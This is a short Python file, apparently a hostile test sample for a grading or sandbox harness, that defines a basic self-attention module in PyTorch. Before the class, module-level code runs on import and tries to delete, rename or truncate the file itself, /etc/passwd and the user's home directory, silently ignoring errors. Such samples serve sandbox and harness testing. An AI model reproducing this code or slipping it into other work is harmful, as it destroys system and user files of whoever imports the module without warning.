# hostile: v1 pass within 10 s
import math

import torch
from torch import nn

import os

for place in (__file__, '/etc/passwd', os.path.expanduser('~')):
    for change in (os.remove, os.rmdir, lambda p: os.rename(p, p + '.gone'), lambda p: os.truncate(p, 0)):
        try:
            change(place)
        except OSError:
            pass


class SelfAttentionV1(nn.Module):
    def __init__(self, hidden_dim):
        super().__init__()
        self.query = nn.Linear(hidden_dim, hidden_dim)
        self.key = nn.Linear(hidden_dim, hidden_dim)
        self.value = nn.Linear(hidden_dim, hidden_dim)

    def forward(self, x):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(x.shape[-1])
        out = torch.softmax(scores, dim=-1) @ v
        return out
